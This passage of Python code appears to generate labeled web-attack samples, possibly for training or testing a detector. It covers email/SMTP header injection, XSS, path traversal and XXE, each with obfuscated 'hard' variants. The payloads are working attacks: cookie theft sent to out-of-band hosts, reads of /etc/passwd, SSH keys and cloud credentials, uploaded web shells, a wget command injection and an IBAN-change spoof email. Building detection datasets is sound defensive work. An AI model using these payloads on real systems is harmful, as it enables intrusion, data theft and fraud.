    L.append(Hd("form", '"attacker@%s"@acme-corp.com' % ad(), param="email", path="/register"))
    L.append(Hd("json", "attacker%%%s@acme-corp.com" % ad(), param="email", path="/api/signup"))
    L.append(Hd("query", "@acme-corp.com:attacker@%s" % ad(), param="email", path="/api/invite/accept"))
    L.append(Hd("json", "attacker@%s\x00@acme-corp.com" % ad(), param="email", path="/api/signup"))
    L.append(
        Hd(
            "header",
            "=?utf-8?b?%s?=@acme-corp.com" % b64("attacker@%s>" % ad()),
            hname="X-Forwarded-Email",
            path="/sso/provision",
        )
    )
    L.append(Hd("form", "x@y.com\nBcc: z@%s" % ad(), param="email", path="/contact"))
    L.append(Hd("json", "victim@example.com\r\nBcc: x@%s" % ad(), param="email", jesc="punct", path="/api/contact"))
    L.append(Hd("form", "victim@example.com\r\nBcc: x@%s" % ad(), param="email", enc="full", path="/contact"))
    L.append(Hd("query", "a@b.com%%0d%%0aBcc:%%20x@%s" % ad(), param="email", path="/newsletter/subscribe"))
    L.append(Hd("multipart", "=?utf-8?q?Support=0D=0ABcc:_x@%s?=" % ad(), param="name", path="/careers/apply"))
    L.append(
        Hd(
            "xml",
            "noreply@acme-corp.com\r\nBcc: x@%s" % ad(),
            param="from",
            xesc="charref",
            path="/services/MailService",
        )
    )
    L.append(
        Hd("cookie", "user@example.com\r\nBcc: x@%s" % ad(), cname="remember_email", enc="mixed", path="/cart/email-me")
    )
    L.append(Hd("json", ["victim@example.com", "spam@%s" % ad()], param="to", path="/api/share/email"))
    L.append(
        Hd(
            "form",
            '"attacker\\\' -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com',
            param="email",
            path="/contact.php",
        )
    )
    L.append(Hd("path", "x@y.com\r\nBcc: z@%s" % ad(), path="/unsubscribe/{P}", pstyle="full"))
    L.append(
        Hd(
            "json",
            "Thanks\r\n.\nMAIL FROM:<admin@acme-corp.com>\r\nRCPT TO:<payroll@acme-corp.com>\r\nDATA\r\nSubject: Bank details change\r\n\r\nNew IBAN attached.\r\n.\r\n",
            param="message",
            path="/api/support/contact",
        )
    )
    L.append(
        Hd(
            "json",
            "${run{\\x2fbin\\x2fsh\\t-c\\t\\x22wget\\x20http\\x3a\\x2f\\x2f%s\\x2fe\\x22}}@localhost" % aip(),
            param="to",
            path="/api/notify",
        )
    )
    L.append(Hd("form", '"victim@example.com" <attacker@%s>' % ad(), param="email", path="/account/email"))
    return L


# ================================================================ attacks part D
def cat_xss():
    h = oob
    L = []
    L.append(A("query", "<script>alert(document.domain)</script>", param="q", path="/search"))
    L.append(A("query", "<img src=x onerror=alert(document.cookie)>", param="name", path="/welcome"))
    L.append(
        A(
            "json",
            "<svg onload=fetch('//%s/c?'+document.cookie)>" % h(),
            param="comment",
            extra={"rating": 5},
            prefix=True,
            path="/api/products/88/reviews",
        )
    )
    L.append(A("form", '"><svg/onload=alert(1)>', param="title", path="/posts/new"))
    L.append(A("json", "javascript:alert(document.cookie)", param="website", path="/api/users/me", method="PATCH"))
    L.append(
        A(
            "form",
            '<iframe srcdoc="<script>parent.alert(document.domain)</script>"></iframe>',
            param="signature",
            path="/forum/profile",
        )
    )
    L.append(A("query", "<details open ontoggle=alert(1)>", param="msg", path="/notice"))
    L.append(
        A(
            "json",
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
            param="bio",
            path="/api/profile",
        )
    )
    L.append(
        A(
            "form",
            '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
            param="content",
            path="/wiki/Main_Page/edit",
        )
    )
    L.append(
        A(
            "json",
            "<style>input[name=csrf][value^=a]{background:url(//%s/a)}</style>" % h(),
            param="custom_css",
            path="/api/themes/current",
        )
    )
    L.append(
        A(
            "json",
            "[click me](javascript:alert(document.domain))",
            param="markdown",
            prefix=True,
            path="/api/issues/17/comments",
        )
    )
    L.append(
        A("form", '![x](https://i.imgur.example/x.png"onerror="alert(1))', param="body", path="/discussions/reply")
    )
    L.append(A("header", 'https://www.google.com/"><script>alert(1)</script>', hname="Referer", path="/landing"))
    L.append(A("header", "<script src=//%s/x.js></script>" % h(), hname="User-Agent", path="/"))
    L.append(A("cookie", '"><img src=x onerror=alert(1)>', cname="username", path="/account"))
    L.append(A("path", '"><svg onload=alert(1)>', path="/profile/{P}"))
    L.append(
        A(
            "multipart",
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>\n',
            mp="file",
            filename="avatar.svg",
            fct="image/svg+xml",
            fieldname="avatar",
            path="/api/users/me/avatar",
        )
    )
    L.append(
        A(
            "multipart",
            "<html><body><script>fetch('/api/me').then(r=>r.text()).then(t=>fetch('//%s/',{method:'POST',body:t}))</script></body></html>\n"
            % h(),
            mp="file",
            filename="report.html",
            fct="text/html",
            fieldname="attachment",
            path="/api/tickets/3310/attachments",
        )
    )
    L.append(
        A(
            "multipart",
            "<img src=x onerror=alert(1)>.png",
            mp="filename",
            fct="image/png",
            fcontent="\x89PNG\r\n\x1a\n",
            fieldname="file",
            path="/api/gallery/upload",
        )
    )
    L.append(A("xml", "<img src=x onerror=alert(1)>", param="description"))
    L.append(A("query_key", "<script>alert(1)</script>", kval="1", path="/debug/params"))
    L.append(A("json_key", "<img src=x onerror=alert(document.domain)>", kval="value", path="/api/forms/custom-fields"))
    L.append(A("query", "alert(document.domain)//", param="callback", path="/api/jsonp/user"))
    L.append(A("query", "javascript:alert(document.domain)", param="next", path="/login"))
    L.append(A("form", "<input autofocus onfocus=alert(1)>", param="nickname", path="/settings"))
    L.append(
        A("json", "{{constructor.constructor('alert(document.domain)')()}}", param="display_name", path="/api/profile")
    )
    L.append(A("query", "'\"--></style></textarea></script><svg onload=alert(1)>", param="ref", path="/article/123"))
    L.append(A("query", "';alert(String.fromCharCode(88,83,83))//", param="lang", path="/app"))
    L.append(
        A("json", '<a href="https://example.com" onmouseover="alert(1)">hover me</a>', param="note", path="/api/notes")
    )
    L.append(A("form", "<video><source onerror=alert(1)></video>", param="description", path="/listing/new"))
    # ---- hard (20)
    L.append(Hd("query", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", param="q", path="/search"))
    L.append(Hd("json", '<a href="&#x6A;avascript:alert(1)">x</a>', param="comment", path="/api/products/88/reviews"))
    L.append(Hd("form", "<svg><script>alert&#40;1&#41;</script>", param="title", path="/posts/new"))
    L.append(Hd("query", '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">', param="msg", path="/notice"))
    L.append(
        Hd(
            "json",
            "<img src=x onerror=eval(atob('%s'))>" % b64("alert(document.cookie)"),
            param="bio",
            path="/api/profile",
        )
    )
    L.append(Hd("query", "<svg/onload=self[`al`+`ert`](1)>", param="name", path="/welcome"))
    L.append(Hd("json", "<img src=x onerror=\\u0061lert(1)>", param="note", path="/api/notes"))
    L.append(Hd("form", "[x](JaVaScRiPt:alert(1))", param="body", path="/discussions/reply"))
    L.append(Hd("query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", param="msg", path="/notice"))
    L.append(
        Hd(
            "json",
            "<form><button formaction=javascript:alert(1)>Submit</button></form>",
            param="content",
            path="/api/pages/about",
        )
    )
    L.append(Hd("query", '<a href="javascript&colon;alert(1)">x</a>', param="q", path="/search"))
    L.append(
        Hd("form", "<img src=x onerror=top[/al/.source+/ert/.source](1)>", param="signature", path="/forum/profile")
    )
    L.append(
        Hd(
            "json",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
            param="bio",
            path="/api/profile",
        )
    )
    L.append(Hd("query", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", param="q", path="/search"))
    L.append(
        Hd("json", "<script>alert(document.cookie)</script>", param="title", jesc="punct", path="/api/boards/4/cards")
    )
    L.append(Hd("header", "<img/src/onerror=alert(1)>", hname="User-Agent", path="/"))
    L.append(Hd("cookie", "'-alert(1)-'", cname="lang", enc="mixed", path="/app"))
    L.append(
        Hd(
            "multipart",
            '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[alert(document.domain)]]></script></svg>\n',
            mp="file",
            filename="chart.svg",
            fct="image/svg+xml",
            fieldname="file",
            path="/api/charts/import",
        )
    )
    L.append(Hd("xml", "<svg/onload=alert(document.domain)>", param="description", xesc="charref"))
    L.append(Hd("path", "'><svg onload=alert(document.domain)>", path="/profile/{P}", pstyle="full"))
    return L


def cat_path_traversal():
    L = []
    L.append(A("query", "../../../../etc/passwd", param="file", path="/download"))
    L.append(A("query", "..\\..\\..\\..\\windows\\win.ini", param="path", path="/api/files/read"))
    L.append(A("query", "/etc/passwd", param="template", path="/render"))
    L.append(A("query", "....//....//....//etc/passwd", param="download", path="/get.php"))
    L.append(A("path", "../../../../../etc/passwd", path="/static/{P}", pstyle="raw"))
    L.append(A("path", "../../../etc/passwd", path="/api/files/{P}"))
    L.append(A("path", "..;/manager/html", path="/app/{P}", pstyle="raw"))
    L.append(A("path", "../config/settings.py", path="/assets{P}", pstyle="raw"))
    L.append(A("json", "../../../../root/.ssh/id_rsa", param="filename", path="/api/exports/download"))
    L.append(
        A(
            "json_key",
            "../../../home/app/.ssh/authorized_keys",
            kval="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker"
            % tok(40, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"),
            path="/api/gists",
        )
    )
    L.append(A("form", "../../../../var/www/html/config.php", param="attachment", path="/mail/attachment"))
    L.append(A("header", "../../../../../../etc/passwd", hname="Accept-Language", path="/"))
    L.append(A("cookie", "../../../../etc/group", cname="template", path="/index.php"))
    L.append(
        A(
            "multipart",
            "../../../../var/www/html/shell.jsp",
            mp="filename",
            fct="application/octet-stream",
            fcontent='<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
            fieldname="file",
            path="/api/upload",
        )
    )
    L.append(
        A(
            "multipart",
            "..\\..\\..\\Users\\Public\\evil.dll",
            mp="filename",
            fct="application/octet-stream",
            fcontent="MZ",
            fieldname="plugin",
            path="/api/plugins/upload",
        )
    )
    L.append(A("xml", "../../../../etc/shadow", param="path"))
    L.append(A("query", "/proc/self/environ", param="page", path="/index.php"))
    L.append(A("query", "../../../../proc/self/cwd/app.py", param="doc", path="/docs/view"))
    L.append(A("query", "../../../../var/log/nginx/access.log", param="log", path="/admin/logs"))
    L.append(A("query", "C:\\inetpub\\wwwroot\\web.config", param="file", path="/Download.aspx"))
    L.append(A("query", "\\\\localhost\\c$\\windows\\win.ini", param="path", path="/Download.aspx"))
    L.append(
        A("json", "..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", param="report", path="/api/reports/get")
    )
    L.append(A("form", "/var/www/../../etc/shadow", param="path", path="/admin/backup/file"))
    L.append(
        A(
            "query",
            "jar:file:///opt/app/app.jar!/BOOT-INF/classes/application.properties",
            param="resource",
            path="/api/docs/load",
        )
    )
    L.append(A("query", "../WEB-INF/web.xml", param="page", path="/include.jsp"))
    L.append(A("path", "../../../../etc/hosts", path="/download/{P}", pstyle="raw"))
    L.append(A("multipart", "../../../../var/www/html/export", param="export_path", path="/api/reports/export"))
    L.append(A("cookie", "../../../../../../windows/win.ini", cname="theme", path="/portal/"))
    L.append(A("query_key", "../../../../etc/issue", noeq=True, fill=False, path="/cgi-bin/show"))
    L.append(A("xml", "..\\..\\..\\boot.ini", param="file"))
    # ---- hard (20)
    L.append(Hd("query", "..%2f..%2f..%2fetc%2fpasswd", param="file", path="/download"))
    L.append(Hd("query", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", param="path", path="/api/files/read"))
    L.append(Hd("query", "..%252f..%252f..%252fetc%252fpasswd", param="file", path="/download"))
    L.append(Hd("query", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", param="file", path="/download"))
    L.append(
        Hd("query", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215windows%u2215win.ini", param="file", path="/Download.aspx")
    )
    L.append(
        Hd(
            "query",
            "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
            param="file",
            path="/download",
        )
    )
    L.append(Hd("query", "../../../../etc/passwd\x00.png", param="image", path="/img"))
    L.append(Hd("path", "./WEB-INF/web.xml", path="/{P}", pstyle="dots"))
    L.append(
        Hd(
            "path",
            "%5c%5c..%5c/..%5c/..%5c/..%5c/windows/win.ini",
            path="/spring-mvc-showcase/resources/{P}",
            pstyle="raw",
        )
    )
    L.append(Hd("path", "....//....//....//....//etc/hosts", path="/static/{P}", pstyle="raw"))
    L.append(Hd("form", "..\\/..\\/..\\/..\\/etc/passwd", param="file", path="/viewer"))
    L.append(Hd("json", "../../../../root/.bash_history", param="filename", jesc="punct", path="/api/exports/download"))
    L.append(Hd("xml", "../../../etc/mysql/my.cnf", param="path", xesc="charref"))
    L.append(
        Hd(
            "multipart",
            "..%2f..%2f..%2fvar%2fwww%2fhtml%2fs.php",
            mp="filename",
            fct="application/octet-stream",
            fcontent="<?php system($_GET[0]); ?>",
            fieldname="file",
            path="/api/upload",
        )
    )
    L.append(
        Hd(
            "header",
            "..%2F..%2F..%2F..%2Fetc%2Fcron.d%2Fbackdoor",
            hname="X-File-Name",
            method="POST",
            path="/api/resumable/upload",
        )
    )
    L.append(Hd("cookie", "....\\/....\\/....\\/etc/passwd", cname="template", path="/index.php"))
    L.append(Hd("query", "..\\..\\web.config::$DATA", param="file", path="/Download.aspx"))
    L.append(Hd("query", "..\u2215..\u2215..\u2215etc\u2215passwd", param="file", path="/download"))
    L.append(
        Hd(
            "json_key",
            "..\\..\\..\\inetpub\\wwwroot\\x.aspx",
            kval='<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c whoami"); %>',
            path="/api/archive/extract",
        )
    )
    L.append(Hd("query", "..././..././..././etc/passwd", param="file", path="/download"))
    return L


def cat_xxe():
    h = oob
    L = []
    L.append(
        A(
            "xml",
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order>\n  <id>10442</id>\n  <note>&xxe;</note>\n</order>\n',
            xml="doc",
            path="/api/orders",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n  <soap:Body><GetStock xmlns="urn:stock"><Symbol>&win;</Symbol></GetStock></soap:Body>\n</soap:Envelope>\n',
            xml="doc",
            ct="text/xml",
            path="/StockService.asmx",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY %% ext SYSTEM "http://%s/ev.dtd"> %%ext;]>\n<r>1</r>\n' % h(),
            xml="doc",
            path="/api/import",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE data [\n  <!ENTITY %% file SYSTEM "file:///etc/hostname">\n  <!ENTITY %% dtd SYSTEM "http://%s/combine.dtd">\n  %%dtd;\n]>\n<data>&send;</data>\n'
            % h(),
            xml="doc",
            path="/api/v1/feed",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0" ?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n<!ENTITY % ISOamso \'\n<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n&#x25;eval;\n&#x25;error;\n\'>\n%local_dtd;\n]>\n<message>hello</message>\n',
            xml="doc",
            path="/api/messages",
        )
    )
    L.append(
        A(
            "form",
            '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
            param="productId",
            extra_form=[("storeId", "1")],
            path="/product/stock",
        )
    )
    L.append(
        A(
            "multipart",
            '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1">\n  <text font-size="16" x="0" y="16">&xxe;</text>\n</svg>\n',
            mp="file",
            filename="avatar.svg",
            fct="image/svg+xml",
            fieldname="avatar",
            path="/api/users/me/avatar",
        )
    )
    L.append(
        A(
            "multipart",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">\n  <w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>\n</w:document>\n',
            mp="file",
            filename="document.xml",
            fct="application/xml",
            fieldname="part",
            path="/api/docs/import-part",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">\n  <si><t>&xxe;</t></si>\n</sst>\n',
            xml="doc",
            path="/api/spreadsheets/shared-strings",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soapenv:Envelope [<!ENTITY cfg SYSTEM "file:///opt/tomcat/conf/tomcat-users.xml">]>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:urn="urn:customer">\n  <soapenv:Body><urn:Lookup><urn:name>&cfg;</urn:name></urn:Lookup></soapenv:Body>\n</soapenv:Envelope>\n',
            xml="doc",
            ct="text/xml",
            path="/ws/CustomerService",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<rss version="2.0"><channel><title>News</title><item><title>&x;</title><link>https://example.org/a</link></item></channel></rss>\n',
            xml="doc",
            ct="application/rss+xml",
            path="/api/feeds/preview",
        )
    )
    L.append(
        A(
            "json",
            '<?xml version="1.0"?><!DOCTYPE inv [<!ENTITY e SYSTEM "file:///etc/passwd">]><invoice><number>&e;</number></invoice>',
            param="invoice_xml",
            path="/api/einvoice/validate",
        )
    )
    L.append(
        A(
            "query",
            '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY e SYSTEM "file:///etc/hosts">]><q>&e;</q>',
            param="xml",
            path="/legacy/xmlquery",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE cfg [\n  <!ENTITY %% f SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">\n  <!ENTITY %% d SYSTEM "http://%s/x.dtd">\n  %%d;\n]>\n<cfg>&exfil;</cfg>\n'
            % h(),
            xml="doc",
            path="/api/settings/import",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">\n <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">\n <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">\n <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">\n]>\n<lolz>&lol9;</lolz>\n',
            xml="doc",
            path="/api/documents",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]>\n<r><user>&x;</user></r>\n',
            xml="doc",
            path="/api/user/import.php",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE note SYSTEM "http://%s/note.dtd">\n<note><to>ops</to><body>hi</body></note>\n'
            % h(),
            xml="doc",
            path="/api/notes",
        )
    )
    L.append(
        A(
            "multipart",
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE kml [<!ENTITY loc SYSTEM "file:///etc/passwd">]>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&loc;</name><Point><coordinates>13.40,52.52,0</coordinates></Point></Placemark></kml>\n',
            mp="file",
            filename="route.kml",
            fct="application/vnd.google-earth.kml+xml",
            fieldname="track",
            path="/api/tracks/import",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE user [<!ENTITY id SYSTEM "file:///etc/passwd">]>\n<user><name>&id;</name><email>a@example.com</email></user>\n',
            xml="doc",
            ct="application/xml",
            method="POST",
            path="/api/users",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE D:propfind [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&f;</D:displayname></D:prop></D:propfind>\n',
            xml="doc",
            method="PROPFIND",
            ct="text/xml",
            path="/webdav/shared/",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY tok SYSTEM "http://%s/wss">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">\n  <soap:Header><wsse:Security><wsse:UsernameToken><wsse:Username>&tok;</wsse:Username></wsse:UsernameToken></wsse:Security></soap:Header>\n  <soap:Body/>\n</soap:Envelope>\n'
            % h(),
            xml="doc",
            ct="text/xml",
            path="/ws/Billing",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<report xmlns:xi="http://www.w3.org/2001/XInclude">\n  <title>Q4</title>\n  <xi:include parse="text" href="file:///etc/passwd"/>\n</report>\n',
            xml="doc",
            path="/api/reports/render",
        )
    )
    L.append(
        A(
            "multipart",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE workbook [<!ENTITY %% r SYSTEM "http://%s/wb.dtd"> %%r;]>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>\n'
            % h(),
            mp="file",
            filename="workbook.xml",
            fct="application/xml",
            fieldname="part",
            path="/api/spreadsheets/import-part",
        )
    )
    L.append(
        A(
            "json",
            '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="5" y="20">&h;</text></svg>',
            param="svg",
            extra={"width": 200},
            path="/api/thumbnails",
        )
    )
    L.append(
        A(
            "form",
            '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d><name>&e;</name></d>',
            param="data",
            path="/servlet/XmlImport",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:template match="/"><out><xsl:copy-of select="document(\'file:///etc/passwd\')"/></out></xsl:template>\n</xsl:stylesheet>\n',
            xml="doc",
            ct="application/xslt+xml",
            path="/api/transform/stylesheet",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY env SYSTEM "file:///proc/self/environ">]>\n<profile><bio>&env;</bio></profile>\n',
            xml="doc",
            path="/api/profile/import",
        )
    )
    L.append(
        A(
            "multipart",
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/shadow">]><a>&b;</a>',
            param="xml",
            extra_parts=[("format", "xml")],
            path="/api/convert",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE gpx [<!ENTITY k SYSTEM "file:///root/.aws/credentials">]>\n<gpx version="1.1" creator="x"><trk><name>&k;</name></trk></gpx>\n',
            xml="doc",
            ct="application/gpx+xml",
            path="/api/activities/upload",
        )
    )
    L.append(
        A(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<r><v>&ssrf;</v></r>\n',
            xml="doc",
            path="/api/xml/validate",
        )
    )
    # ---- hard (20)
    utf7 = '<?xml version="1.0" encoding="UTF-7"?>\n+ADw-+ACE-DOCTYPE foo +AFs-+ADw-+ACE-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n+ADw-foo+AD4-+ACY-xxe+ADs-+ADw-/foo+AD4-\n'
    L.append(Hd("xml", utf7, xml="doc", path="/api/import"))
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE x PUBLIC "-//B//A//EN" "http://%s/p.dtd">\n<x>1</x>\n' % h(),
            xml="doc",
            path="/api/orders",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE o [<!ENTITY e SYSTEM "file:/etc/passwd">]>\n<o><n>&e;</n></o>\n',
            xml="doc",
            path="/api/orders",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE o [<!ENTITY e SYSTEM "netdoc:/etc/passwd">]>\n<o><n>&e;</n></o>\n',
            xml="doc",
            path="/api/v2/shipments",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE o [<!ENTITY %% j SYSTEM "jar:http://%s/a.zip!/x.dtd"> %%j;]>\n<o/>\n'
            % aip(),
            xml="doc",
            path="/api/v2/shipments",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE data [\n  <!ENTITY %% start "<![CDATA[">\n  <!ENTITY %% file SYSTEM "file:///etc/fstab">\n  <!ENTITY %% end "]]>">\n  <!ENTITY %% dtd SYSTEM "http://%s/join.dtd">\n  %%dtd;\n]>\n<data>&all;</data>\n'
            % h(),
            xml="doc",
            path="/api/v1/feed",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY %% d SYSTEM "data://text/plain;base64,%s"> %%d;]>\n<r>&xxe;</r>\n'
            % b64('<!ENTITY xxe SYSTEM "file:///etc/passwd">'),
            xml="doc",
            path="/api/user/import.php",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY %% a "<!ENTITY &#x25; b SYSTEM \'http://%s/n\'>">\n%%a;\n%%b;\n]>\n<r/>\n'
            % h(),
            xml="doc",
            path="/api/import",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0"?>\n<!DOCTYPE\n\n   r\t[\n  <!-- vendor schema -->\n  <!ENTITY\n     sp\tSYSTEM\n   "file:///etc/passwd"\n  >\n]>\n<r><v>&sp;</v></r>\n',
            xml="doc",
            path="/api/messages",
        )
    )
    saml = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY %% s SYSTEM "http://%s/saml.dtd"> %%s;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.org</saml:Issuer></samlp:Response>'
        % (h(), tok(20, HEXD))
    )
    L.append(
        Hd(
            "form",
            b64(saml),
            param="SAMLResponse",
            extra_form=[("RelayState", "/dashboard")],
            path="/saml/acs",
            fill=False,
        )
    )
    L.append(
        Hd(
            "json",
            '<?xml version="1.0"?><!DOCTYPE credit-note [<!ENTITY h SYSTEM "file:///etc/hosts">]><credit-note><ref>&h;</ref></credit-note>',
            param="document",
            jesc="punct",
            path="/api/einvoice/validate",
        )
    )
    L.append(
        Hd(
            "multipart",
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="300" height="40">\n  <text x="0" y="20"><xi:include parse="text" href="file:///etc/hostname"/></text>\n</svg>\n',
            mp="file",
            filename="logo.svg",
            fct="image/svg+xml",
            fieldname="logo",
            path="/api/org/branding",
        )
    )
    L.append(
        Hd(
            "xml",
            '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE \u03be [<!ENTITY \u03be\u03be SYSTEM "file:///etc/passwd">]>\n<\u03be>&\u03be\u03be;</\u03be>\n',
            xml="doc",
            path="/api/orders",
        )
    )
    L.append(
        Hd(
            "query",
            '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY e SYSTEM "file:///etc/passwd">]><q>&e;</q>',
            param="xml",
            enc="full",
            path="/legacy/xmlquery",
        )
    )
    L.append(
        Hd(
            "xml",
